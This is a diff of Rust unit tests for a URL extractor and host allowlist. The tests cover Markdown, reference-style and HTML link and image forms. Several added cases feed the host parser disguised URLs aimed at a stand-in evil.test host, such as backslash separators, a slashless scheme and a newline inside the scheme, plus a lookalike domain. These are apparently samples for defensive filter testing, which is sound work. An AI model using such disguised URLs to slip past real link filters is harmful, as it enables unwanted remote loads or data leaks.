     #[test]
     fn parses_forms_and_pending() {
         let t = "a ![x](https://e.test/i.png) b [t](http://h.test \"ti\") \
                  <img src=\"//x.test/p\"> <a href='http://y.test'>y</a>";
         let (l, p) = find(t);
         assert_eq!(p, t.len());
-        assert_eq!(l.len(), 4);
-        assert_eq!(&t[l[0].url.clone()], "https://e.test/i.png");
-        assert!(l[0].image && !l[1].image && l[2].image && !l[3].image);
-        assert_eq!(&t[l[3].url.clone()], "http://y.test");
-        assert_eq!(find("see [te").1, 4);
-        assert_eq!(find("see ![te](http://x").1, 4);
-        assert_eq!(find("a <im").1, 2);
-        assert_eq!(find("a <b>").1, 5);
-        assert_eq!(find("a [b] c").1, 7);
-        assert_eq!(find("wow!").1, 3);
+        let md: Vec<_> = l.iter().filter(|l| l.form != Form::Bare).collect();
+        assert_eq!(md.len(), 4);
+        assert_eq!(&t[md[0].url.clone()], "https://e.test/i.png");
+        assert!(md[0].image && !md[1].image && md[2].image && !md[3].image);
+        assert_eq!(&t[md[3].url.clone()], "http://y.test");
+        assert_eq!(scan("see [te", false).1, 4);
+        assert_eq!(scan("see ![te](http://x", false).1, 4);
+        assert_eq!(scan("a <im", false).1, 2);
+        assert_eq!(scan("a <b>", false).1, 5);
+        assert_eq!(scan("a [b] c", false).1, 7);
+        assert_eq!(scan("wow!", false).1, 3);
+        assert_eq!(scan("go https://x.test/a", false).1, 3);
+    }
+
+    #[test]
+    fn commonmark_and_html_forms() {
+        let t = "![a][x]\n\n[x]: https://e.test/p.png?d=1";
+        assert_eq!(
+            urls(t),
+            vec![
+                ("", Form::RefImage, true),
+                ("https://e.test/p.png?d=1", Form::Definition, false)
+            ]
+        );
+        assert_eq!(
+            urls("![x](<https://e.test/a b?d=1>)")[0].0,
+            "https://e.test/a b?d=1"
+        );
+        assert_eq!(
+            urls("![x](\nhttps://e.test/a\n)")[0].0,
+            "https://e.test/a"
+        );
+        assert_eq!(urls("![x\\]](https://e.test/a)")[0].0, "https://e.test/a");
+        let n = urls("![x [y](z)](https://e.test/a)");
+        assert!(n.iter().any(|u| u.0 == "https://e.test/a" && u.2));
+        let long = format!(
+            "![{}](https://e.test/a \"{}\")",
+            "a".repeat(2000),
+            "t".repeat(600)
+        );
+        assert_eq!(urls(&long)[0].0, "https://e.test/a");
+        let u = format!("https://e.test/{}", "b".repeat(3000));
+        assert_eq!(urls(&format!("![a]({u})"))[0].0, u);
+        let tag = format!(
+            "<img alt=\"{}\" src=\"https://e.test/i\">",
+            "z".repeat(3000)
+        );
+        assert_eq!(urls(&tag)[0].0, "https://e.test/i");
+        let s =
+            urls("<img srcset=\"https://a.test/1 1x, https://b.test/2 2x\">");
+        assert_eq!(s[0].0, "https://a.test/1");
+        let (l, _) =
+            find("<img srcset=\"https://a.test/1 1x, https://b.test/2 2x\">");
+        assert_eq!(l[0].more.len(), 1);
+        for (tag, url) in [
+            (
+                "<picture><source srcset=\"https://e.test/s\"></picture>",
+                "https://e.test/s",
+            ),
+            ("<video poster=https://e.test/v></video>", "https://e.test/v"),
+            ("<input type=image src='https://e.test/i'>", "https://e.test/i"),
+            ("<iframe src=\"https://e.test/f\"></iframe>", "https://e.test/f"),
+            (
+                "<link rel=stylesheet href=\"https://e.test/c\">",
+                "https://e.test/c",
+            ),
+            (
+                "<div style=\"background:url(https://e.test/b)\">",
+                "https://e.test/b",
+            ),
+            (
+                "<style>p{background:url('https://e.test/s')}</style>",
+                "https://e.test/s",
+            ),
+            ("<https://e.test/auto>", "https://e.test/auto"),
+            ("see https://e.test/bare.", "https://e.test/bare"),
+        ] {
+            let u = urls(tag);
+            assert_eq!(u.first().map(|x| x.0), Some(url), "{tag}");
+        }
+        assert!(!urls("<a href=\"https://e.test/\">x</a>")[0].2);
+        // Unclosed past HOLD: the opener is reported.
+        let open = format!("![a](https://e.test/{}", "c".repeat(HOLD));
+        assert_eq!(urls(&open)[0].1, Form::Opener);
     }
 
     #[test]
@@ -367,6 +1083,13 @@ mod tests {
             Some("evil.test:8080")
         );
         assert_eq!(host("/relative"), None);
+        assert_eq!(
+            host("https:\\\\evil.test\\x").as_deref(),
+            Some("evil.test")
+        );
+        assert_eq!(host("http:evil.test/x").as_deref(), Some("evil.test"));
+        assert_eq!(host("ht\ntps://evil.test").as_deref(), Some("evil.test"));
+        assert_eq!(host("mailto:a@b.test"), None);
         assert!(host_allowed("img.example.com", &["*.example.com".into()]));
         assert!(!host_allowed(
             "example.com.evil.test",
